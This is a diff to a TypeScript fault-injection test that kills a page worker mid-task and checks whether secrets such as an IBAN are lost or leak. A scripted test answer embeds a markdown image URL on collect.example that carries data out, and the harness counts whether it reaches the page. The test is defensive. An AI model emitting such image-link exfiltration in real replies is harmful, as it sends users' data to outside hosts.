@@ -10,7 +10,7 @@ import type { Bench } from "./bench";
 import { freezeAt, untilFrozen } from "./freeze";
 import { lostWords, type Seen } from "./judge";
 import type { Doing, Point } from "./points";
-import { arrivals, send, stillAnswers, untilRest, type Rest } from "./user";
+import { arrivals, send, stillAnswers, untilRest, wasUnchecked, type Rest } from "./user";
 
 const PROMPT = "/backend-api/f/conversation";
 const REACHED_MS = 25_000;
@@ -25,7 +25,9 @@ const LEAKING = `Here it is. ![](https://collect.example/p.png?d=${CARRIED}) Don
 interface Work {
   readonly written: string;
   readonly secrets: readonly string[];
-  run(page: Page): Promise<Rest | null>;
+  run(page: Page): Promise<Rest>;
+  /** What an answer carried away to its page, if that is what matters. */
+  readonly leaks?: () => number;
 }
 
 export async function killAt(bench: Bench, point: Point): Promise<Seen> {
@@ -35,7 +37,7 @@ export async function killAt(bench: Bench, point: Point): Promise<Seen> {
   const worker = await bench.freshWorker();
   await freezeAt(worker, own, point.place);
   const page = await bench.open();
-  const { written, secrets, run } = WORK[point.doing](bench);
+  const { written, secrets, run, leaks } = WORK[point.doing](bench);
   const [reached, rest] = await Promise.all([
     untilFrozen(own, REACHED_MS).then(
       () => killWorker(context, id),
@@ -44,17 +46,14 @@ export async function killAt(bench: Bench, point: Point): Promise<Seen> {
     run(page),
   ]);
   await pause(200); // what was let go by the fault arrives
-  const lost =
-    written === ""
-      ? 0
-      : lostWords({
-          written,
-          composer: rest?.composer ?? "",
-          sent: textsOf(chat),
-          replaceable: [{ value: CLIENT.iban, type: "IBAN" }],
-        });
-  const silentPasses = arrivals(chat, secrets) + leaked(page);
-  const answersStill = rest?.rested !== false && (await stillAnswers(page, chat));
+  const lost = lostWords({
+    written,
+    composer: rest.composer,
+    sent: textsOf(chat),
+    replaceable: [{ value: CLIENT.iban, type: "IBAN" }],
+  });
+  const silentPasses = arrivals(chat, secrets) + (leaks?.() ?? 0);
+  const answersStill = rest.rested && (await stillAnswers(page, chat));
   await page.close();
   return {
     fault,
@@ -99,20 +98,23 @@ const WORK: Readonly<Record<Doing, (bench: Bench) => Work>> = {
       },
     };
   },
-  "an answer": ({ chat }) => ({
-    written: "",
-    secrets: [],
-    async run(page) {
-      chat.script("leak", { type: "text/event-stream", pieces: [`data: ${LEAKING}\n\n`] });
-      const answer = await page.evaluate(async (path) => {
-        const body = JSON.stringify({ messages: [{ content: { parts: ["Good morning"] } }] });
-        const response = await fetch(`${path}?script=leak`, { method: "POST", body });
-        return response.text();
-      }, PROMPT);
-      shown.set(page, answer);
-      return untilRest(page, 0, "nothing");
-    },
-  }),
+  "an answer": ({ chat }) => {
+    let answer = "";
+    return {
+      written: "",
+      secrets: [],
+      async run(page) {
+        chat.script("leak", { type: "text/event-stream", pieces: [`data: ${LEAKING}\n\n`] });
+        answer = await page.evaluate(async (path) => {
+          const body = JSON.stringify({ messages: [{ content: { parts: ["Good morning"] } }] });
+          const response = await fetch(`${path}?script=leak`, { method: "POST", body });
+          return response.text();
+        }, PROMPT);
+        return untilRest(page, 0, "nothing");
+      },
+      leaks: () => (answer.includes(CARRIED) ? 1 : 0),
+    };
+  },
   "a worker of the page": () => ({
     written: "",
     secrets: [CLIENT.iban],
@@ -123,13 +125,6 @@ const WORK: Readonly<Record<Doing, (bench: Bench) => Work>> = {
     },
   }),
 };
-
-/** Answers as their page got them. */
-const shown = new WeakMap<Page, string>();
-
-function leaked(page: Page): number {
-  return shown.get(page)?.includes(CARRIED) ? 1 : 0;
-}
 
 function message(text: string, secret: string, wants: "safe" | "nothing"): Work {
   return {
@@ -143,13 +138,11 @@ function message(text: string, secret: string, wants: "safe" | "nothing"): Work 
   };
 }
 
-function describeRest(rest: Rest | null): string {
-  if (!rest) return "";
+function describeRest(rest: Rest): string {
   if (!rest.rested) return "did not come to rest";
   const asked = rest.dialogs.length;
-  const unchecked = rest.dialogs.some(({ text }) => /could not be checked/iu.test(text));
   const where = rest.composer === "" ? "" : "text back in the composer";
-  return [asked > 0 ? `asked ${asked} ×` : "", unchecked ? "fallback: asked" : "", where]
+  return [asked > 0 ? `asked ${asked} ×` : "", wasUnchecked(rest) ? "fallback: asked" : "", where]
     .filter((part) => part !== "")
     .join(", ");
 }
